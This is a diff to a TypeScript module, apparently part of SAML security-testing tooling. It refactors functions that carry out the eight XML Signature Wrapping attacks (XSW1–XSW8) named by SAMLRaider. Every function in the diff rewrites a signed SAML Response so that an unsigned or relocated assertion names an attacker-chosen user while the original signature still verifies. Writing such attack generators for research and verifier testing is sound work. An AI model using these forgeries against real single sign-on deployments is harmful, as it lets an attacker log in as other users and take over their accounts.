@@ -117,6 +117,36 @@ export function setUser(el: Element, user: string) {
   if (nameId) nameId.textContent = user;
 }
 
+const stripSignatures = (el: Element) => {
+  for (const sig of Array.from(el.getElementsByTagNameNS(DS, 'Signature'))) sig.parentNode!.removeChild(sig);
+};
+
+/** An unsigned copy of an element claiming the evil user (with a new ID when asked). */
+function evilCopy(el: Element, evil: string, newIdToo: boolean): Element {
+  const copy = el.cloneNode(true) as Element;
+  if (newIdToo) copy.setAttribute('ID', newId());
+  stripSignatures(copy);
+  setUser(copy, evil);
+  return copy;
+}
+
+/** An unsigned copy, user unchanged (the original content an attacker tucks away). */
+function unsignedCopy(el: Element): Element {
+  const copy = el.cloneNode(true) as Element;
+  stripSignatures(copy);
+  return copy;
+}
+
+/** XSW1/2: an evil Response (new ID) keeping only the Response signature element. */
+function evilResponse(original: Element, evil: string): { clone: Element; signature: Element } {
+  const clone = original.cloneNode(true) as Element;
+  clone.setAttribute('ID', newId());
+  const signature = Array.from(clone.childNodes).find((n) => (n as Element).localName === 'Signature') as Element;
+  for (const s of Array.from(clone.getElementsByTagNameNS(DS, 'Signature'))) if (s !== signature) s.parentNode!.removeChild(s);
+  setUser(first(clone, SAML, 'Assertion'), evil);
+  return { clone, signature };
+}
+
 /**
  * The eight XML Signature Wrapping classes of Somorovsky et al. (2012), as SAMLRaider names them,
  * applied to a Response whose Response and Assertion are both signed. Each returns a message in
@@ -126,58 +156,40 @@ export function setUser(el: Element, user: string) {
 export const XSW: Record<string, (signedXml: string, evilUser: string) => string> = {
   // XSW1: evil Response, the original signed Response moved into the evil one's Signature.
   XSW1(xml, evil) {
-    const doc = parseXml(xml);
-    const original = doc.documentElement;
-    const clone = original.cloneNode(true) as Element;
-    clone.setAttribute('ID', newId());
-    const cloneSig = Array.from(clone.childNodes).find((n) => (n as Element).localName === 'Signature') as Element;
-    for (const s of Array.from(clone.getElementsByTagNameNS(DS, 'Signature'))) if (s !== cloneSig) s.parentNode!.removeChild(s);
-    setUser(first(clone, SAML, 'Assertion'), evil);
-    cloneSig.appendChild(doc.importNode(original.cloneNode(true), true));
+    const original = parseXml(xml).documentElement;
+    const { clone, signature } = evilResponse(original, evil);
+    signature.appendChild(original.cloneNode(true));
     return serialize(clone);
   },
   // XSW2: like XSW1, but the original signed Response is a sibling before the Signature (detached).
   XSW2(xml, evil) {
-    const doc = parseXml(xml);
-    const original = doc.documentElement;
-    const clone = original.cloneNode(true) as Element;
-    clone.setAttribute('ID', newId());
-    const cloneSig = Array.from(clone.childNodes).find((n) => (n as Element).localName === 'Signature') as Element;
-    for (const s of Array.from(clone.getElementsByTagNameNS(DS, 'Signature'))) if (s !== cloneSig) s.parentNode!.removeChild(s);
-    setUser(first(clone, SAML, 'Assertion'), evil);
-    clone.insertBefore(original.cloneNode(true), cloneSig);
+    const original = parseXml(xml).documentElement;
+    const { clone, signature } = evilResponse(original, evil);
+    clone.insertBefore(original.cloneNode(true), signature);
     return serialize(clone);
   },
   // XSW3: evil Assertion (new ID, no signature) inserted before the original signed Assertion.
   XSW3(xml, evil) {
     const doc = parseXml(xml);
     const assertion = first(doc, SAML, 'Assertion');
-    const evilA = assertion.cloneNode(true) as Element;
-    evilA.setAttribute('ID', newId());
-    for (const s of Array.from(evilA.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
-    setUser(evilA, evil);
-    assertion.parentNode!.insertBefore(evilA, assertion);
+    assertion.parentNode!.insertBefore(evilCopy(assertion, evil, true), assertion);
     return serialize(doc);
   },
   // XSW4: the original signed Assertion moved inside the evil Assertion.
   XSW4(xml, evil) {
     const doc = parseXml(xml);
     const assertion = first(doc, SAML, 'Assertion');
-    const evilA = assertion.cloneNode(true) as Element;
-    evilA.setAttribute('ID', newId());
-    for (const s of Array.from(evilA.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
-    setUser(evilA, evil);
+    const evilA = evilCopy(assertion, evil, true);
     assertion.parentNode!.replaceChild(evilA, assertion);
     evilA.appendChild(assertion);
     return serialize(doc);
   },
-  // XSW5: the evil Assertion keeps the original's ID-less copy of the signature; the original
-  // (unchanged, without its signature) is appended to the Response.
+  // XSW5: the signed Assertion altered to the evil user (signature kept), the unaltered
+  // original appended unsigned to the Response.
   XSW5(xml, evil) {
     const doc = parseXml(xml);
     const assertion = first(doc, SAML, 'Assertion');
-    const original = assertion.cloneNode(true) as Element;
-    for (const s of Array.from(original.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
+    const original = unsignedCopy(assertion);
     setUser(assertion, evil);
     assertion.parentNode!.appendChild(original);
     return serialize(doc);
@@ -186,8 +198,7 @@ export const XSW: Record<string, (signedXml: string, evilUser: string) => string
   XSW6(xml, evil) {
     const doc = parseXml(xml);
     const assertion = first(doc, SAML, 'Assertion');
-    const original = assertion.cloneNode(true) as Element;
-    for (const s of Array.from(original.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
+    const original = unsignedCopy(assertion);
     setUser(assertion, evil);
     first(assertion, DS, 'Signature').appendChild(original);
     return serialize(doc);
@@ -198,9 +209,7 @@ export const XSW: Record<string, (signedXml: string, evilUser: string) => string
     const assertion = first(doc, SAML, 'Assertion');
     const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
     assertion.parentNode!.insertBefore(ext, assertion);
-    const evilA = assertion.cloneNode(true) as Element;
-    for (const s of Array.from(evilA.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
-    setUser(evilA, evil);
+    const evilA = evilCopy(assertion, evil, false);
     ext.appendChild(assertion);
     ext.parentNode!.insertBefore(evilA, ext.nextSibling);
     return serialize(doc);
@@ -209,8 +218,7 @@ export const XSW: Record<string, (signedXml: string, evilUser: string) => string
   XSW8(xml, evil) {
     const doc = parseXml(xml);
     const assertion = first(doc, SAML, 'Assertion');
-    const original = assertion.cloneNode(true) as Element;
-    for (const s of Array.from(original.getElementsByTagNameNS(DS, 'Signature'))) s.parentNode!.removeChild(s);
+    const original = unsignedCopy(assertion);
     setUser(assertion, evil);
     const object = doc.createElementNS(DS, 'ds:Object');
     object.appendChild(original);
